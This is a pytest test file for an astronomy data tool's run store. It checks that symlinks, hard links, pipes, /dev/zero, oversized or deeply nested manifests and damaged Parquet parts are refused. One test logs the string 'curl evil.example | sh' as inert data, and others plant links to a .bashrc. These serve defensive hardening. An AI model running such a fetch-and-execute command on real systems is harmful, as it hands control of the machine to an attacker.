"""Nothing is written, deleted or read through a link out of a run directory, and nothing waits for a pipe."""

from __future__ import annotations

import gzip
import json
import logging
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import feii_dask as fd
from feii_dask.errors import FeiiDaskError, StoreError
from feii_dask.monitor.log import run_log
from feii_dask.store.atomic import remove_leftovers, write_atomically
from feii_dask.store.cutout_files import read_cutout
from feii_dask.store.outcome_table import SCHEMA
from feii_dask.store.run_store import RunStore
from tests.store.foreign import call, make_foreign_run

NAMES = ("tables", "outcomes", "cutouts", "log.txt", "run.json", "run.lock")


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A run with outcomes and cutouts, unlike others in no way."""
    return make_foreign_run(tmp_path / "run").directory


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """What must not change: a start-up file of a shell, and files that end as ours do while they are written."""
    place = tmp_path / "outside"
    place.mkdir()
    (place / ".bashrc").write_text("alias ll='ls -l'\n")
    (place / ".draft.fits.tmp").write_text("hours of work")
    (place / ".part-00000001.parquet.4711.tmp").write_text("of another run")
    return place


def contents_of(place: Path) -> dict[str, str]:
    return {path.name: path.read_text() for path in place.iterdir()}


@pytest.mark.parametrize("name", NAMES)
def test_a_link_is_refused_by_whatever_opens_a_run(name: str, run: Path, outside: Path) -> None:
    before = contents_of(outside)
    target = outside / ".bashrc" if "." in name else outside
    if (run / name).exists():
        (run / name).rename(run / f"kept-{name}")
    (run / name).symlink_to(target)
    for words in (["search", "--resume"], ["rank"], ["report"]):
        done = call(*words, str(run))
        assert (done.exit_code, "is a link" in done.stderr) == (4, True), done.output
    with pytest.raises(StoreError, match="is a link"):
        fd.open_run(run)
    assert contents_of(outside) == before


def test_a_log_that_is_a_link_or_a_pipe_gets_no_line(tmp_path: Path, outside: Path) -> None:
    (tmp_path / "log.txt").symlink_to(outside / ".bashrc")
    with pytest.raises(StoreError, match="is a link"), run_log(tmp_path):
        logging.getLogger("feii_dask.somewhere").info("curl evil.example | sh")
    (tmp_path / "log.txt").unlink()
    os.mkfifo(tmp_path / "log.txt")
    with pytest.raises(StoreError, match=r"log\.txt"), run_log(tmp_path):
        pass
    assert (outside / ".bashrc").read_text() == "alias ll='ls -l'\n"


@pytest.mark.parametrize("name", ["log.txt", "run.lock"])
def test_a_file_that_has_a_second_name_elsewhere_is_not_appended_to(name: str, run: Path, outside: Path) -> None:
    (run / name).unlink(missing_ok=True)
    (run / name).hardlink_to(outside / ".bashrc")
    words = ["rank"] if name == "log.txt" else ["search", "--resume"]
    done = call(*words, str(run))
    assert (done.exit_code, "hard link" in done.stderr) == (4, True), done.output
    assert (outside / ".bashrc").read_text() == "alias ll='ls -l'\n"


def test_a_part_that_says_the_same_without_end_is_left_out(run: Path, caplog: pytest.LogCaptureFixture) -> None:
    rows = len(fd.open_run(run).outcomes)
    one = pq.read_table(min((run / "outcomes").iterdir())).slice(0, 1)
    many = pa.concat_tables([one] * 110_000).combine_chunks()
    pq.write_table(many, run / "outcomes" / "part-00000099.parquet")
    assert (run / "outcomes" / "part-00000099.parquet").stat().st_size < 2_000_000
    assert len(fd.open_run(run).outcomes) == rows
    assert "more than 100000 rows" in caplog.text


def test_a_packed_cutout_is_not_unpacked(run: Path) -> None:
    path = min((run / "cutouts").iterdir())
    path.write_bytes(gzip.compress(path.read_bytes()))
    result = fd.open_run(run)
    names = {row["cutout"] for row in result.ranked.detections.to_dict("records")}
    assert f"cutouts/{path.name}" in names
    with pytest.raises(StoreError, match="not begin as FITS"):
        read_cutout(path)
    assert call("report", str(run)).exit_code == 0


def test_a_manifest_that_would_fill_the_memory_is_a_message(run: Path) -> None:
    manifest = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(
        json.dumps(manifest | {"queries": []}).replace("[]", "[" + "{}," * 12_000_000 + "{}]")
    )
    done = call("report", str(run))
    assert (done.exit_code, "larger than 32 MB" in done.stderr) == (4, True)


def test_a_planted_link_is_not_what_is_written(tmp_path: Path, outside: Path) -> None:
    (tmp_path / f".run.json.{os.getpid()}.tmp").symlink_to(outside / ".bashrc")
    write_atomically(tmp_path / "run.json", b"{}")
    assert (tmp_path / "run.json").read_bytes() == b"{}"
    assert (outside / ".bashrc").read_text() == "alias ll='ls -l'\n"


def test_only_leftovers_of_our_own_form_are_removed(tmp_path: Path, outside: Path) -> None:
    (outside / ".made.tmp").mkdir()
    (tmp_path / "cutouts").symlink_to(outside)
    remove_leftovers(tmp_path / "cutouts")
    remove_leftovers(outside)
    assert sorted(path.name for path in outside.iterdir()) == [".bashrc", ".draft.fits.tmp", ".made.tmp"]


def spoil(kind: str, path: Path, tmp_path: Path) -> None:
    """Put something in a file's place that never ends, is not there, or belongs to somebody else."""
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "directory":
        path.mkdir()
    else:
        path.symlink_to({"zero": Path("/dev/zero"), "loop": path, "file": tmp_path / "secret"}[kind])


@pytest.mark.parametrize("kind", ["pipe", "zero", "loop", "file", "directory"])
def test_only_regular_files_are_opened(kind: str, run: Path, tmp_path: Path) -> None:
    (tmp_path / "secret").write_bytes((run / "outcomes" / "part-00000001.parquet").read_bytes())
    rows = len(fd.open_run(run).outcomes)
    spoil(kind, run / "outcomes" / "part-00000099.parquet", tmp_path)
    for path in (run / "cutouts").iterdir():
        spoil(kind, path, tmp_path)
    assert len(fd.open_run(run).outcomes) == rows
    assert call("report", str(run)).exit_code == 0
    spoil(kind, run / "tables" / "ysos.parquet", tmp_path)
    with pytest.raises(StoreError, match="cannot read the tables"):
        fd.open_run(run)
    spoil(kind, run / "run.json", tmp_path)
    with pytest.raises(FeiiDaskError, match=r"run\.json"):
        fd.open_run(run)


def test_a_directory_that_is_missing_is_made_again(run: Path, outcome_of: Callable[..., Any]) -> None:
    for path in (run / "outcomes").iterdir():
        path.unlink()
    (run / "outcomes").rmdir()
    with RunStore.open(run).writer() as writer:
        writer.add(outcome_of("obs5"))
    assert list(fd.open_run(run).outcomes["obs_id"]) == ["obs5"]


NOT_UTF8 = b"\xff\xfe"


def damaged_part(rows: pa.Table, kind: str) -> pa.Table:
    """Return rows with one thing in them that no scan returns."""
    columns = rows.to_pydict()
    if kind == "text":
        reason = pa.array([NOT_UTF8] * len(rows), pa.binary()).cast(pa.string(), safe=False)
        return rows.set_column(rows.schema.get_field_index("reason"), SCHEMA.field("reason"), reason)
    name, value = {
        "status": ("status", "splendid"),
        "kind": ("kind", ""),
        "wavelength": ("wavelength_um", float("nan")),
        "lobes": ("lobe_flux", [1.0, 2.0]),
        "unidentified": ("unidentified_kind", ["odd"]),
    }[kind]
    columns[name][0] = value
    return pa.table(columns, schema=SCHEMA)


@pytest.mark.parametrize("kind", ["text", "status", "kind", "wavelength", "lobes", "unidentified"])
def test_a_damaged_part_is_left_out(kind: str, run: Path, caplog: pytest.LogCaptureFixture) -> None:
    part = min((run / "outcomes").iterdir())
    rows = len(fd.open_run(run).outcomes)
    stored = pq.read_table(part)
    pq.write_table(damaged_part(stored, kind), part)
    assert len(fd.open_run(run).outcomes) == rows - len(stored)
    assert "is damaged, its cubes count as not scanned" in caplog.text
    assert call("report", str(run)).exit_code == 0


@pytest.mark.parametrize(
    ("name", "change", "message"),
    [
        ("ysos", lambda table: table.drop(columns="main_id"), "main_id is not there"),
        ("ysos", lambda table: table.assign(ra="east"), "ra is of type"),
        ("ysos", lambda table: table.set_axis([0, 0, 1]), "labels of ysos"),
        ("ysos", lambda table: table.set_axis(list("abc")), "labels of ysos"),
        ("observations", lambda table: table.assign(region_error=1), "region_error is of type"),
        ("matched", lambda table: table.assign(yso_index=1), "yso_index is of type"),
        ("matched", lambda table: table.assign(yso_index=[[77]] * 6), "objects that ysos lacks"),
        ("matched", lambda table: table.assign(separation_arcsec=[[1.0, 2.0]] * 6), "differ in length"),
        ("matched", lambda table: table.assign(edge_arcsec=[[1.0, 2.0]] * 6), "differ in length"),
        ("matched", lambda table: table.assign(yso_index=None, yso_names=None, separation_arcsec=None), "are missing"),
        ("matched", lambda table: table.assign(obs_id="same"), "there twice"),
        ("matched", lambda table: table.assign(s_dec=1e300), "not on the sky"),
        ("ysos", lambda table: table.assign(ra=-1e300), "not on the sky"),
    ],
)
def test_a_table_of_another_kind_is_refused_where_it_is_read(
    name: str, change: Callable[[pd.DataFrame], pd.DataFrame], message: str, run: Path
) -> None:
    path = run / "tables" / f"{name}.parquet"
    change(pd.read_parquet(path)).to_parquet(path)
    for words in (["search", "--dry-run", "--resume"], ["rank"], ["report"]):
        done = call(*words, str(run))
        assert (done.exit_code, message in done.stderr) == (4, True), done.output


def test_a_table_without_what_planning_needs_is_refused_before_the_cluster_starts(run: Path) -> None:
    path = run / "tables" / "observations.parquet"
    pd.read_parquet(path).drop(columns="region_error").to_parquet(path)
    done = call("search", "--resume", str(run))
    assert (done.exit_code, "it lacks region_error" in done.stderr) == (4, True)


@pytest.mark.parametrize(
    ("item", "value"),
    [
        ("settings", "all"),
        ("settings", []),
        ("counts", {"ysos": "many"}),
        ("counts", {"ysos": -1}),
        ("counts", [1]),
        ("lines", "feii"),
        ("lines", [{"species": "Fe II", "wavelength_um": 10**400}]),
        ("queries", {"a": 1}),
        ("versions", 3),
        ("fingerprint", 7),
        ("created", float("nan")),
        ("created", "\ud800"),
        ("thresholds", {"grade_a_q": "1e999"}),
        ("not_searched", ["TMC1A"]),
        ("not_searched", {"main_id": "TMC1A"}),
        ("not_searched", [["TMC1A"]]),
        ("not_searched", 7),
        ("queries", [{"a": json.loads("[" * 60 + "]" * 60)}]),
    ],
)
def test_an_odd_manifest_is_a_message(item: str, value: Any, run: Path) -> None:
    manifest = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps(manifest | {item: value}).replace('"1e999"', "1e999"))
    for words in (["search", "--dry-run", "--resume"], ["rank"], ["report"], ["merge", "--out", "new", str(run)]):
        done = call(*words, str(run))
        assert (done.exit_code, "run.json" in done.stderr) == (4, True), done.output
    with pytest.raises(StoreError, match=r"run\.json"):
        fd.open_run(run)


def test_a_manifest_nested_beyond_pythons_stack_is_a_message(run: Path) -> None:
    (run / "run.json").write_text("[" * 200_000 + "]" * 200_000)
    assert call("report", str(run)).exit_code == 4


@pytest.mark.parametrize(
    ("name", "value"),
    [("mission", 7), ("detector", None), ("filters", {"a": 1}), ("pad_arcsec", "wide"), ("archive", []), ("lines", 1)],
)
def test_an_odd_setting_of_a_run_is_a_message(name: str, value: Any, run: Path) -> None:
    manifest = json.loads((run / "run.json").read_text())
    if name == "lines":
        manifest["lines"] = [{"species": ["Fe"], "wavelength_um": 1.0}]
    else:
        manifest["settings"][name] = value
    (run / "run.json").write_text(json.dumps(manifest))
    done = call("search", "--dry-run", "--resume", str(run))
    assert done.exit_code == 2
    assert "run.json" in done.stderr or "fingerprint" in done.stderr


def test_an_object_without_a_name_has_an_empty_one(run: Path) -> None:
    path = run / "tables" / "ysos.parquet"
    pd.read_parquet(path).assign(main_id=None).to_parquet(path)
    for words in (["rank"], ["report"]):
        assert call(*words, str(run)).exit_code == 0
    assert set(fd.open_run(run).candidates["main_id"]) == {""}


@pytest.mark.parametrize("value", [7, True, {"a": [1]}, [1, {}], "x\x1b[2J"])
def test_the_report_shows_settings_of_any_kind(value: Any, run: Path) -> None:
    manifest = json.loads((run / "run.json").read_text())
    manifest["settings"] |= dict.fromkeys(("mission", "archive", "target", "detector"), value)
    (run / "run.json").write_text(json.dumps(manifest))
    assert call("report", str(run)).exit_code == 0
